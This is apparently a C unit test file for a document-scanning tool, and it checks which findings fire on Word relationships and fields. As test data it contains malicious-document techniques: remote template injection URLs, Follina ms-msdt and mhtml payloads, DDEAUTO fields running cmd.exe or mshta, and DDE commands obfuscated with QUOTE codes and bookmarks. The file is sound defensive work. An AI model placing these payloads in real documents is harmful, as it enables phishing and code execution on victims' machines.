/*
 * test_xmldoc.c - files of packages and flat documents: what each finding fires on, and what is next to it and must not.
 */
#include "exam_test.h"

#include "xmldoc/xmldoc.h"

#include <setjmp.h>
#include <stdarg.h>
#include "base/pen.h"

#include <stdio.h>

#include <cmocka.h>

static int setup(void **state)
{
	*state = exam_test_new();
	return 0;
}

static int teardown(void **state)
{
	exam_test_free(*state);
	return 0;
}

static void open_part(struct exam_test *t, const char *name, const char *xml)
{
	exam_test_open_in(t, xmldoc_part, text_span(xml), name, TYPE_OOXML);
}

/* One relationship with the last word of its type. */
static void open_relationship(struct exam_test *t, const char *type, const char *target)
{
	char xml[2048];

	snprintf(xml, sizeof(xml),
		 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
		 "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
		 "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\" "
		 "TargetMode=\"External\"/></Relationships>",
		 type, target);
	open_part(t, "word/_rels/settings.xml.rels", xml);
}

static void relationships_by_role_and_reach(void **state)
{
	static const struct {
		const char *type, *target;
		enum finding_id id; /* FINDINGS: nothing */
	} rows[] = {
		{ "attachedTemplate", "http://files.example/a.dotm", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "https://files.example/a", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "  h&#x74;tp://files.example/a.png", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "HTTP:\\\\files.example\\a", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "ftp://192.0.2.1/a", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "\\\\files.example\\share\\a.dotx", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "file:///\\\\192.0.2.7@80\\share\\a.dotx", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "file://files.example/share/a.dotx", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "\\\\?\\UNC\\192.0.2.7\\share\\a.dotx", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "mhtml:http://files.example/a.mht", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "http://3221225985/a", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "%68ttp://user:pw@files.example/a", FINDING_REMOTE_TEMPLATE },
		{ "attachedTemplate", "https://corp.sharepoint.com/a.dotx", FINDING_REMOTE_FILE },
		{ "attachedTemplate", "\\\\SERVER01\\templates\\letter.dotx", FINDING_LINKED_FILE },
		{ "attachedTemplate", "file:///\\\\192.168.1.5\\public\\letter.dotx", FINDING_LINKED_FILE },
		{ "attachedTemplate", "file:///C:\\Users\\a\\Templates\\Normal.dotm", FINDINGS },
		{ "attachedTemplate", "Normal.dotm", FINDINGS },
		{ "oleObject", "http://files.example/a.html!", FINDING_FOLLINA },
		{ "oleObject", "mhtml:http://files.example/s.html!x-usc:http://files.example/s.html", FINDING_FOLLINA },
		{ "oleObject", "http://files.example/a.doc", FINDING_REMOTE_OBJECT },
		{ "oleObject", "script:http://files.example/a.sct", FINDING_CUSTOM_PROTOCOL },
		{ "oleObject", "https://corp.sharepoint.com/a.xlsx!Sheet1!R1C1", FINDING_LINKED_FILE },
		{ "oleObject", "file:///C:\\a.xlsx!Sheet1!R1C1", FINDINGS },
		{ "frame", "http://files.example/a.htm", FINDING_REMOTE_FILE },
		{ "subDocument", "\\\\192.0.2.7\\a\\b.docx", FINDING_REMOTE_FILE },
		{ "aFChunk", "https://files.example/a.rtf", FINDING_REMOTE_FILE },
		{ "frame", "search-ms:query=a&amp;crumb=location:\\\\192.0.2.7", FINDING_CUSTOM_PROTOCOL },
		{ "image", "http://files.example/a.png", FINDING_REMOTE_IMAGE },
		{ "image", "file://192.0.2.7/a/b.png", FINDING_REMOTE_FILE },
		{ "image", "file:///C:\\a.png", FINDINGS },
		{ "externalLinkPath", "file:///\\\\files.example\\a.xlsx", FINDING_LINKED_FILE },
		{ "externalLinkPath", "Book2.xlsx", FINDINGS },
		{ "hyperlink", "https://www.example/", FINDINGS },
		{ "hyperlink", "ms-msdt:/id PCWDiagnostic", FINDING_FOLLINA },
		{ "hyperlink", "file:///C:\\Windows\\System32\\calc.exe", FINDING_LINK_PROGRAM },
		{ "hyperlink", "powershell%20-c%20x", FINDING_LINK_PROGRAM },
		{ "hyperlink", "file:///C:\\docs\\Python%20course.docx", FINDINGS },
		{ "video", "https://www.example/embed/1", FINDINGS },
	};
	struct exam_test *t = *state;

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		open_relationship(t, rows[i].type, rows[i].target);
		if (rows[i].id == FINDINGS ? t->exam.found_count != 0 : !exam_found(&t->exam, rows[i].id)) {
			exam_test_show(t);
			fail_msg("%s %s", rows[i].type, rows[i].target);
		}
	}
}

static void links_are_handed_on(void **state)
{
	struct exam_test *t = *state;

	open_relationship(t, "hyperlink", "https://www.example/a?b=1&amp;c=2");
	assert_true(exam_test_url(t, "https://www.example/a?b=1&c=2"));
}

static void relationships_in_utf16_and_strict(void **state)
{
	static const char xml[] = "<?xml version=\"1.0\"?><r:Relationships xmlns:r=\"x\"><r:Relationship "
				  "Type=\"http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate\" "
				  "TargetMode=\"external\" Target='http://files.example/a'></r:Relationship></r:Relationships>";
	struct exam_test *t = *state;
	uint8_t wide[2 * sizeof(xml)] = { 0xff, 0xfe };

	for (size_t i = 0; i + 1 < sizeof(xml); i++)
		wide[2 + 2 * i] = (uint8_t)xml[i], wide[3 + 2 * i] = 0;
	exam_test_open_in(t, xmldoc_part, (struct span){ wide, sizeof(wide) }, "any/where.xml", TYPE_OOXML);
	assert_true(exam_test_found(t, FINDING_REMOTE_TEMPLATE, "http://files.example/a"));
}

/* --- fields --- */

#define FIELD(kind) "<w:r><w:fldChar w:fldCharType=\"" kind "\"/></w:r>"
#define CODE(text)  "<w:r><w:instrText>" text "</w:instrText></w:r>"
#define SHOWN(text) "<w:r><w:t>" text "</w:t></w:r>"
#define DOCUMENT(body) "<?xml version=\"1.0\"?><w:document xmlns:w=\"x\"><w:body><w:p>" body "</w:p></w:body></w:document>"

static void open_document(struct exam_test *t, const char *xml)
{
	open_part(t, "word/document.xml", xml);
}

static void dde_fields(void **state)
{
	struct exam_test *t = *state;

	open_document(t, DOCUMENT(FIELD("begin") CODE(" DDE") CODE("AUTO c:\\\\windows\\\\system32\\\\cm")
				  CODE("d.exe &quot;/k calc.exe&quot; ") FIELD("separate") SHOWN("!") FIELD("end")));
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "c:\\windows\\system32\\cmd.exe \"/k calc.exe\""));
	open_document(t, DOCUMENT("<w:fldSimple w:instr=\" DDE other topic \"/>"));
	assert_true(exam_test_found(t, FINDING_DDE, "other topic"));
	assert_false(exam_found(&t->exam, FINDING_DDE_COMMAND));
	open_document(t, DOCUMENT("<w:fldSimple w:instr=\" DDE Excel &quot;C:\\\\a.xls&quot; R1C1 \"/>"));
	assert_false(exam_found(&t->exam, FINDING_DDE));
	assert_true(exam_found(&t->exam, FINDING_DDE_FEED));
	open_document(t, DOCUMENT(SHOWN("DDEAUTO cmd.exe is how it was done")));
	assert_int_equal(t->exam.found_count, 0);
}

/* Words out of codes of characters, and by a bookmark. */
static void dde_out_of_quotes(void **state)
{
	struct exam_test *t = *state;

	open_document(t, DOCUMENT(FIELD("begin") CODE("DDE ") FIELD("begin") CODE("QUOTE 99 109 100 46 101 120 101")
				  FIELD("separate") SHOWN("nothing") FIELD("end") CODE(" &quot;/k&quot;") FIELD("end")));
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "cmd.exe \"/k\""));
	open_document(t, DOCUMENT(FIELD("begin") CODE("SET C &quot;mshta http://files.example/a&quot;") FIELD("end")
				  FIELD("begin") CODE("DDE ") FIELD("begin") CODE("REF C") FIELD("end") FIELD("end")));
	assert_true(exam_test_found(t, FINDING_DDE_COMMAND, "mshta http://files.example/a"));
}

static void fields_that_fetch(void **state)
{
	struct exam_test *t = *state;

	open_document(t, DOCUMENT("<w:fldSimple w:instr='INCLUDETEXT \"http://files.example/a.doc\" \\* MERGEFORMAT'/>"));
	assert_true(exam_test_found(t, FINDING_REMOTE_FILE, "http://files.example/a.doc"));
	open_document(t, DOCUMENT("<w:fldSimple w:instr='INCLUDEPICTURE \"https://www.example/a.png\" \\d'/>"));
	assert_true(exam_found(&t->exam, FINDING_REMOTE_IMAGE));
	assert_false(exam_found(&t->exam, FINDING_REMOTE_FILE));
	open_document(t, DOCUMENT("<w:fldSimple w:instr='LINK Word.Document.8 \"\\\\\\\\192.0.2.1\\\\a\\\\b.doc\" \\a'/>"));
	assert_true(exam_test_found(t, FINDING_REMOTE_OBJECT, "\\\\192.0.2.1\\a\\b.doc"));
	open_document(t, DOCUMENT("<w:fldSimple w:instr='LINK Excel.Sheet.12 \"C:\\\\a\\\\b.xlsx\" R1C1 \\a'/>"
				  "<w:fldSimple w:instr='INCLUDETEXT \"C:\\\\a.docx\"'/><w:fldSimple w:instr=' PAGE '/>"));
	assert_int_equal(t->exam.found_count, 0);
}

static void fields_of_clicks(void **state)
{
	struct exam_test *t = *state;

	open_document(t, DOCUMENT(FIELD("begin") CODE("HYPERLINK \\l &quot;x&quot; &quot;https://www.example/&quot;")
				  FIELD("separate") SHOWN("here") FIELD("end")));
	assert_true(exam_test_url(t, "https://www.example/"));
	assert_string_equal(t->urls[0].shown, "here");
	assert_int_equal(t->exam.found_count, 0);
	open_document(t, DOCUMENT("<w:fldSimple w:instr=' MACROBUTTON Go [click] '/>"));
	assert_true(exam_test_found(t, FINDING_MACRO_BUTTON, "Go"));
	open_document(t, DOCUMENT("<w:fldSimple w:instr=' MACROBUTTON NoMacro [click] '/>"));
	assert_int_equal(t->exam.found_count, 0);
}

static void text_is_handed_on(void **state)
{
	struct exam_test *t = *state;

	open_document(t, DOCUMENT(SHOWN("Enable ") SHOWN("con<!-- -->tent &amp; more") "<w:br/>" SHOWN("x")));
	assert_non_null(strstr(t->text, "Enable content & more x\n"));
}

static void videos(void **state)
{
	struct exam_test *t = *state;

	open_document(t, DOCUMENT("<wp15:webVideoPr embeddedHtml=\"&lt;script src='http://files.example/a'&gt;\"/>"));
	assert_non_null(exam_test_part(t, "video.html"));
	open_document(t, DOCUMENT("<wp15:webVideoPr embeddedHtml=\"&lt;iframe src='https://www.youtube.com/embed/1'&gt;\"/>"));
	assert_int_equal(t->part_count, 0);
}

/* Fields in fields without end, and too many. */
static void fields_without_end(void **state)
{
	struct exam_test *t = *state;
	static char xml[65536];
	struct pen pen = pen_init(xml, sizeof(xml) - 1);

	pen_text(&pen, "<w:document xmlns:w='x'>");
	for (unsigned i = 0; i < 500; i++)
		pen_text(&pen, FIELD("begin") CODE("DDE cmd "));
	xml[pen.used] = '\0';
	open_document(t, xml);
	assert_true(exam_found(&t->exam, FINDING_DDE_COMMAND));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(relationships_by_role_and_reach, setup, teardown),
		cmocka_unit_test_setup_teardown(links_are_handed_on, setup, teardown),
		cmocka_unit_test_setup_teardown(relationships_in_utf16_and_strict, setup, teardown),
		cmocka_unit_test_setup_teardown(dde_fields, setup, teardown),
		cmocka_unit_test_setup_teardown(dde_out_of_quotes, setup, teardown),
		cmocka_unit_test_setup_teardown(fields_that_fetch, setup, teardown),
		cmocka_unit_test_setup_teardown(fields_of_clicks, setup, teardown),
		cmocka_unit_test_setup_teardown(text_is_handed_on, setup, teardown),
		cmocka_unit_test_setup_teardown(videos, setup, teardown),
		cmocka_unit_test_setup_teardown(fields_without_end, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
